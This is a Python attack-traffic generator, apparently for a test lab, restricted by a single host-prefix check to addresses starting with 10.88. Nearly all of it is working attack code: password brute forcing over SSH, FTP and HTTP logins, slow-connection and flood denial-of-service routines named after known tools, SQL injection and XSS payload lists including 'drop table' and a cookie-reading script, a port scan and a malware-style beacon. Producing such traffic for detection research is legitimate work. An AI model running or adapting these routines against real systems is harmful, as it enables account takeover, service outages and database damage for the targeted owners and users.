# Attack programs of this lab with the network libraries of Python, against its own servers only:
# python3 attack.py KIND SECONDS SEED HOST PORT
import ftplib
import http.cookiejar
import random
import socket
import string
import sys
import threading
import time
import urllib.parse
import urllib.request

kind, seconds, seed, host, port = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
if not host.startswith("10.88."):
    sys.exit("Only the servers of the lab are attacked.")
random.seed(seed)
end = time.monotonic() + seconds
base = f"http://{host}:{port}"
SQLI = ["' or 1=1 -- ", "1 union select null,name,null from users-- ", "1' and sleep(2)-- ", "1; drop table x-- ",
        "admin'--", "1 order by 9-- ", "1') or ('a'='a", "-1 union all select version(),user(),3-- "]
XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(document.cookie)>', "<svg onload=alert`1`>",
       "javascript:alert('x')", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>"]


def going():
    return time.monotonic() < end


def word(least, most):
    return "".join(random.choice(string.ascii_lowercase) for _ in range(random.randint(least, most)))


def pause(least, most):
    time.sleep(random.uniform(least, most))


def several(count, one):
    threads = [threading.Thread(target=one, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    while going():
        time.sleep(0.2)


def opened():
    sock = socket.create_connection((host, port), timeout=6)
    return sock


def quiet(action):
    try:
        return action()
    except Exception:
        time.sleep(0.05)
        return None


def ask(path, data=None, headers=None):
    def run():
        request = urllib.request.Request(base + path, data=data, headers=headers or {})
        with urllib.request.urlopen(request, timeout=6) as answer:
            answer.read()
    quiet(run)


def ssh():
    import paramiko
    import logging
    logging.getLogger("paramiko").setLevel(logging.CRITICAL)

    def one():
        while going():
            transport = None
            try:
                transport = paramiko.Transport((host, port))
                transport.connect(username="root")
                for _ in range(random.randint(1, 5)):
                    quiet(lambda: transport.auth_password("root", word(4, 11)))
            except Exception:
                pause(0.05, 0.2)
            finally:
                if transport is not None:
                    transport.close()
    several(3, one)


def ftp():
    def one():
        while going():
            def run():
                client = ftplib.FTP()
                client.connect(host, port, timeout=6)
                for _ in range(random.randint(1, 3)):
                    quiet(lambda: client.login("backup", word(4, 11)))
                client.close()
            quiet(run)
            pause(0.0, 0.2)
    several(3, one)


def form():
    def one():
        while going():
            ask("/login", f"user=admin&password={word(4, 12)}".encode(), {"User-Agent": "Mozilla/5.0"})
            pause(0.0, 0.15)
    several(3, one)


def session():
    import requests

    def one():
        while going():
            with requests.Session() as client:
                for _ in range(random.randint(5, 60)):
                    if not going():
                        return
                    quiet(lambda: client.post(base + "/signin", data={"username": "admin", "password": word(4, 12)}, timeout=6))
                    pause(0.0, 0.05)
    several(2, one)


def basic():
    import requests

    def one():
        while going():
            quiet(lambda: requests.get(base + "/basic/", auth=("admin", word(4, 12)), timeout=6))
            pause(0.0, 0.1)
    several(3, one)


def held(count, first, more, least, most, tiny=False):
    socks = []
    while going():
        while len(socks) < count and going():
            def run():
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                if tiny:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, random.choice([256, 1024, 4096]))
                sock.settimeout(4)
                sock.connect((host, port))
                sock.send(first().encode())
                socks.append(sock)
            quiet(run)
            pause(0.001, 0.03)
        pause(least, most)
        for sock in list(socks):
            try:
                if tiny:
                    sock.setblocking(False)
                    try:
                        if sock.recv(random.randint(16, 400)) == b"":
                            raise OSError()
                    except BlockingIOError:
                        pass
                else:
                    sock.send(more().encode())
            except OSError:
                sock.close()
                socks.remove(sock)


def slowheaders():
    held(80, lambda: f"GET /?{random.randint(0, 2000)} HTTP/1.1\r\nUser-Agent: Mozilla/4.0\r\nAccept-language: en-US,en,q=0.5\r\n",
         lambda: f"X-a: {random.randint(1, 5000)}\r\n", 3, 5)


def pyloris():
    held(60, lambda: f"GET / HTTP/1.1\r\nHost: {host}\r\nReferer: http://{word(5, 30)}\r\nCookie: {word(30, 300)}\r\n",
         lambda: f"{word(3, 8)}: {word(3, 40)}\r\n", 0.8, 2.5)


def rudy():
    held(60, lambda: f"POST /upload HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {random.randint(10000, 900000)}\r\n\r\n",
         lambda: random.choice(string.ascii_letters), 0.5, 2.5)


def torshammer():
    held(90, lambda: f"POST / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nConnection: keep-alive\r\nKeep-Alive: 900\r\nContent-Length: 10000\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n",
         lambda: word(1, 3), 0.3, 3.0)


def slowread():
    held(50, lambda: f"GET /f4000000.bin HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {word(5, 20)}\r\n\r\n", lambda: "", 0.7, 2.5, True)


def hulk():
    def one():
        while going():
            ask(f"/?{word(3, 10)}={word(3, 10)}", None, {
                "User-Agent": word(10, 40), "Cache-Control": "no-cache", "Accept-Charset": "ISO-8859-1,utf-8;q=0.7,*;q=0.7",
                "Referer": f"http://{word(5, 10)}/?q={word(5, 10)}", "Keep-Alive": str(random.randint(110, 120))})
    several(20, one)


def loic():
    def one():
        while going():
            def run():
                with opened() as sock:
                    sock.send(f"GET / HTTP/1.0\r\n\r\n\r\n".encode())
                    sock.recv(64)
            quiet(run)
    several(20, one)


def xerxes():
    def one():
        socks = []
        while going():
            while len(socks) < 8 and going():
                sock = quiet(opened)
                if sock is not None:
                    socks.append(sock)
            for sock in list(socks):
                try:
                    sock.send(b"\0")
                except OSError:
                    socks.remove(sock)
            pause(0.2, 0.4)
    several(8, one)


def sqli():
    while going():
        ask(f"/item?id={urllib.parse.quote(str(random.randint(1, 9)) + random.choice(SQLI))}")
        pause(0.0, 0.3)


def sqlisession():
    import requests
    while going():
        with requests.Session() as client:
            for _ in range(random.randint(3, 50)):
                if not going():
                    return
                quiet(lambda: client.get(base + "/search", params={"q": word(1, 5) + random.choice(SQLI)}, timeout=6))
                pause(0.0, 0.2)


def xss():
    while going():
        ask(f"/search?q={urllib.parse.quote(random.choice(XSS) + word(1, 6))}")
        pause(0.0, 0.3)


def xsssession():
    import requests
    while going():
        with requests.Session() as client:
            for _ in range(random.randint(2, 40)):
                if not going():
                    return
                quiet(lambda: client.get(base + "/search", params={"q": random.choice(XSS) + word(1, 60)}, timeout=6))
                pause(0.0, 0.25)


def scan():
    ports = list(range(1, 1200))
    random.shuffle(ports)

    def one():
        while ports and going():
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(0.7)
            sock.connect_ex((host, ports.pop()))
            sock.close()
    several(12, one)


def beacon():
    every = random.uniform(1.0, 3.5)
    while going():
        ask(f"/api?n=1&id={word(8, 8)}", word(150, 260).encode(), {"User-Agent": "Mozilla/4.0"})
        time.sleep(every * random.uniform(0.9, 1.1))


globals()[kind]()
